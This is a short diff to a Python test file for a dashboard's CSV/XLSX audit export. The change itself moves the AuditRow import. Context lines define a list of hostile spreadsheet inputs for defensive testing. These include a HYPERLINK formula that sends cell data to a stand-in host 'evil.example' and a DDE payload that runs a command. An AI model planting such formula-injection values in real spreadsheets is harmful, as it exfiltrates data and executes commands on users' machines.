@@ -22,7 +22,7 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 from sqlalchemy.orm import Session, sessionmaker
 
-from dashboard.audit_data import AuditRow, to_csv, to_xlsx
+from dashboard.audit_data import to_csv, to_xlsx
 from db.hunan import seed_nodes
 from db.models import Column, ColumnKind, Site, SiteLevel
 from db.registry_io import export_columns, export_sites, import_registry
@@ -36,6 +36,7 @@ from db.tabular import (
     write_table,
     xlsx_unwritable,
 )
+from layouts.frames import AuditRow
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\r=1", "'=1", "'", "''x", "＝1+1",
